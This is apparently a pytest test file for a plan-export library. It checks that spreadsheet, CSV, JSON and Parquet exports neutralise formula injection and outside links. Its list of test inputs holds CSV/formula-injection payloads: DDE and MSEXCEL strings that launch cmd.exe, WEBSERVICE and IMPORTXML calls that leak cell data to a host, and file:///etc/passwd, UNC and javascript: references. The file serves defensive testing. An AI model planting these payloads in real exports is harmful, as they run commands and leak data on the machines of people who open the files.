"""Texts that attack: each, in every format, opened again by what people and programs open it with.

Nothing of a document becomes a formula, a link, a macro, an image or a reference to another file,
and every text comes back as it was, but for what no format carries (`planlift.export.safe.clean`).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import TYPE_CHECKING
from typing import Any
from urllib.parse import unquote
from urllib.parse import urljoin

import openpyxl
import pandas as pd
import pytest
from export_plans import AS_OF
from export_plans import HOSTILE
from export_plans import TEXT_COLUMNS
from export_plans import hostile
from export_plans import plan_of
from libreoffice import convert
from libreoffice import needs_libreoffice
from msgspec.structs import replace

from planlift import export
from planlift.export.safe import CELL_LIMIT
from planlift.export.safe import clean
from planlift.export.safe import computes
from planlift.export.safe import cut
from planlift.export.safe import protect

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from openpyxl.workbook import Workbook

ATTACKS = (
    *HOSTILE,
    # formulas in disguise
    "=1+1\n",
    "\n=1+1",
    "\r=1+1",
    "a\r=1+1",
    "a\n=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u202e=1+1",
    "﹢1+1",
    "−1+1",
    ",=1+1",
    ";=1+1",
    '"=1+1"',
    '",=1+1,"',
    "%=1+1",
    # calls out of the sheet
    '=DDE("cmd","/C calc","x")',
    "=MSEXCEL|'\\..\\..\\cmd.exe /C calc'!''",
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "=[other.xlsx]Sheet1!A1",
    "'[other.xlsx]Sheet1'!A1",
    "Summary!B4",
    "#Summary!B4",
    "Actions[status]",
    "as_of",
    "internal:Summary!B4",
    "external:other.xlsx",
    "file:///etc/passwd",
    "\\\\server\\share\\x.xlsx",
    "javascript:alert(1)",
    "ftp://example.org/x",
    # codes of a page's header, of fields and of Excel's own escapes
    "&P &N &A",
    "&&",
    "_x003D_1+1",
    "_x005F_x000D_",
    "_x0000_",
    # what spreadsheets take for numbers, dates and truth
    "1.20.3",
    "1/2",
    "1:2",
    "12 Jan",
    "Jan 2010",
    "29/01/2010",
    "2010-01-29",
    "10%",
    "£5",
    "(1)",
    "1,5",
    "0x1F",
    "١٢",
    "FALSE",
    "NULL",
    "N/A",
    "nan",
    "NaN",
    "None",
    # what no file carries
    "a\x00b",
    "a\x07b\x1b[31m",
    "a\x85b\x9fb",
    "a\ufffeb",
    "a\ud800b",
    # long ones
    "x" * (CELL_LIMIT + 1),
    "=" + "x" * CELL_LIMIT,
    "🙂" * (CELL_LIMIT // 2 + 1),
)
TEXTS = [clean(text) for text in ATTACKS]
IN_CELLS = [cut(text) for text in TEXTS]
OURS = re.compile(r"=(IF\(|HYPERLINK\(|total_actions|TODAY\(\)|[B-O]\d+-)")
"""How the formulas begin that we write ourselves."""
XLSX = "xlsx:Calc MS Excel 2007 XML"


DOCUMENT = "%3Dhostile.pdf"
"""The only address there may be: that of the document itself, made from its path."""


def by_openpyxl(text: str) -> str:
    """What openpyxl makes of a text in a file: it leaves out this much of an escaped escape."""
    return text.replace("x005F_", "")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The attacks in every format, and the workbook as LibreOffice computes and saves it again."""
    folder = tmp_path_factory.mktemp("attacks")
    export.write_all(hostile(ATTACKS), folder, "plan", export.FORMATS, as_of=AS_OF)
    export.write_batch([hostile(ATTACKS)], folder / "all.xlsx", "xlsx", as_of=AS_OF)
    return folder


@pytest.fixture(scope="module", params=["plan.xlsx", "all.xlsx", "again"])
def saved(request: pytest.FixtureRequest, folder: Path) -> Path:
    if request.param != "again":
        return folder / str(request.param)
    if needs_libreoffice.args[0]:
        pytest.skip(needs_libreoffice.kwargs["reason"])
    return convert(folder / "plan.xlsx", XLSX, folder / "again")


@pytest.fixture(scope="module")
def book(saved: Path) -> Workbook:
    return openpyxl.load_workbook(saved)


def column(book: Workbook, name: str) -> list[str]:
    rows = list(book["Actions"].iter_rows(min_row=3, values_only=True))
    place = rows[0].index(name)
    return [str(row[place] or "") for row in rows[1:]]


def test_the_workbook_holds_every_text_as_it_was(book: Workbook) -> None:
    for name in (*TEXT_COLUMNS, "=cmd()"):
        for found, text in zip(column(book, name), IN_CELLS, strict=True):
            assert found == by_openpyxl(text), name


def test_no_cell_is_a_formula_but_ours(book: Workbook) -> None:
    for sheet in book.worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f":
                formula = getattr(cell.value, "text", cell.value)
                assert OURS.match(str(formula)), (sheet.title, cell.coordinate, formula)
            if cell.hyperlink:
                assert str(cell.hyperlink.target).endswith(DOCUMENT)
                assert str(cell.value).isdigit()


def test_no_part_of_the_package_reaches_out_or_runs(saved: Path) -> None:
    with zipfile.ZipFile(saved) as archive:
        names = archive.namelist()
        related = [archive.read(name).decode() for name in names if name.endswith(".rels")]
    assert not any(re.search("vba|macro|media|externalLink|embed|activeX", name) for name in names)
    outside = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', " ".join(related))
    assert len(outside) == len(ATTACKS)
    assert all(f'{DOCUMENT}"' in one or f"{DOCUMENT}#" in one for one in outside)


def test_sheets_are_called_as_we_call_them(book: Workbook) -> None:
    assert book.sheetnames == ["Summary", "Actions", "Checks", "Plan", "About"]
    names = set(book.defined_names)
    assert {"as_of", "total_actions"} <= names
    assert not any("cmd" in name or "calc" in name for name in names)


def test_pandas_reads_the_workbook_as_it_was(saved: Path) -> None:
    frame = pd.read_excel(
        saved, sheet_name="Actions", header=2, dtype="string", keep_default_na=False
    )
    for name in (*TEXT_COLUMNS, "=cmd()"):
        assert frame[name].tolist() == [by_openpyxl(text) for text in IN_CELLS], name


def test_checks_and_details_hold_the_texts_too(folder: Path) -> None:
    book = openpyxl.load_workbook(folder / "plan.xlsx")
    for sheet, title in (("Checks", "Printed"), ("Checks", "Why here"), ("Plan", "Text")):
        rows = list(book[sheet].iter_rows(min_row=3, values_only=True))
        found = [str(row[rows[0].index(title)] or "") for row in rows[1:]]
        assert found[: len(IN_CELLS)] == [by_openpyxl(text) for text in IN_CELLS]


def rows_of(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


def test_the_csv_holds_every_text_and_nothing_that_computes(folder: Path) -> None:
    rows = rows_of(folder / "plan.csv")
    for row, text in zip(rows, TEXTS, strict=True):
        assert row["action"] == protect(text)
        assert not any(computes(cell) for cell in row.values())


CSV_WITH_FORMULAS = "CSV:44,34,76,1,,0,false,false,false,false,false,0,true"
SHEET_AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true"


@needs_libreoffice
def test_libreoffice_computes_nothing_of_the_csv(folder: Path) -> None:
    """Opened with formulas allowed, as a person does who confirms everything."""
    opened = convert(folder / "plan.csv", "fods", folder / "opened", read_as=CSV_WITH_FORMULAS)
    content = opened.read_text("utf-8")
    assert content.count("<table:table-row") > len(TEXTS)
    assert "table:formula" not in content
    assert "xlink:href=" not in content.partition("<office:body")[2]


@needs_libreoffice
def test_libreoffice_finds_formulas_where_there_are_some(tmp_path: Path) -> None:
    (tmp_path / "bare.csv").write_text("action\r\n=1+1\r\n", encoding="utf-8")
    opened = convert(tmp_path / "bare.csv", "fods", tmp_path / "o", read_as=CSV_WITH_FORMULAS)
    assert "table:formula" in opened.read_text("utf-8")


@needs_libreoffice
def test_the_workbook_opened_in_libreoffice_has_no_link_or_image(folder: Path) -> None:
    content = convert(folder / "plan.xlsx", "fods", folder / "flat").read_text("utf-8")
    body = content.partition("<office:spreadsheet")[2]
    addresses = set(re.findall(r'<text:a [^>]*xlink:href="([^"]*)"', body))
    assert all(DOCUMENT in address for address in addresses)
    assert "table:cell-range-source" not in body
    assert "<draw:image" not in re.sub("<draw:object.*?</draw:frame>", "", body, flags=re.DOTALL)
    assert "office:dde-source" not in body


def strings(value: Any) -> Iterator[str]:  # noqa: ANN401 - JSON
    if isinstance(value, str):
        yield value
    for item in value.values() if isinstance(value, dict) else value:
        if not isinstance(value, str) and not isinstance(item, int | float | None):
            yield from strings(item)


def test_json_holds_every_text_as_it_was(folder: Path) -> None:
    content = json.loads((folder / "plan.json").read_bytes())
    for row, text in zip(content["actions"], TEXTS, strict=True):
        assert {row[name] for name in (*TEXT_COLUMNS, "=cmd()")} == {text}
    assert [item["text"] for item in content["details"]] == TEXTS
    assert not any(re.search("[\x00-\x08\x0b-\x1f\x7f]", text) for text in strings(content))


def test_parquet_holds_every_text_as_it_was(folder: Path) -> None:
    pytest.importorskip("pyarrow", reason="pyarrow is not installed")
    frame = pd.read_parquet(folder / "plan.parquet")
    for name in (*TEXT_COLUMNS, "=cmd()"):
        assert frame[name].tolist() == TEXTS, name


def test_the_data_package_names_no_address(folder: Path) -> None:
    package = json.loads((folder / "plan.datapackage.json").read_bytes())
    addresses = [text for text in strings(package) if "://" in text]
    assert addresses == [package["$schema"]]
    assert package["resources"][0]["path"] == "plan.csv"


@pytest.mark.parametrize(
    "name",
    [
        "=cmd.pdf",
        "a#b?c&d=e.pdf",
        "100%41 sure.pdf",
        'it\'s "quoted" <b>.pdf',
        "mailto:a@b.pdf",
        "internal:Summary!A1.pdf",
        "Übersicht 汉字 🙂.pdf",
        "a;b,c|d.pdf",
        "-x.pdf",
        "..pdf",
        "plan.pdf#page=9",
    ],
)
def test_odd_file_names_are_linked_and_nothing_else(name: str, tmp_path: Path) -> None:
    plan = plan_of([{"action": "Do it.", "page": 3}], name=name)
    document = tmp_path / "documents" / name
    document.parent.mkdir()
    document.write_bytes(b"%PDF-1.4")
    plan = replace(plan, source=replace(plan.source, path=document))
    export.write(plan, tmp_path / "out" / "p.xlsx", "xlsx", as_of=AS_OF)
    sheet = openpyxl.load_workbook(tmp_path / "out" / "p.xlsx")["Actions"]
    (link,) = [cell.hyperlink for cell in sheet[4] if cell.hyperlink]
    assert link.location == ("page=3" if name.endswith(".pdf") else None)
    address = unquote(str(link.target).replace("\\", "/"))
    assert (tmp_path / "out" / address).resolve() == document
    assert "://" not in address
    assert not re.match("[a-z]+:", str(link.target))


@needs_libreoffice
def test_libreoffice_follows_the_link_to_the_page(tmp_path: Path) -> None:
    document = tmp_path / "the plans" / "plan #1.pdf"
    document.parent.mkdir()
    document.write_bytes(b"%PDF-1.4")
    plan = plan_of([{"action": "Do it.", "page": 3}])
    plan = replace(plan, source=replace(plan.source, path=document))
    export.write(plan, tmp_path / "p.xlsx", "xlsx", as_of=AS_OF)
    again = convert(tmp_path / "p.xlsx", XLSX, tmp_path / "again")
    (link,) = [
        cell.hyperlink for cell in openpyxl.load_workbook(again)["Actions"][4] if cell.hyperlink
    ]
    assert urljoin(again.as_uri(), str(link.target)) == document.as_uri()
    assert link.location == "page=3"
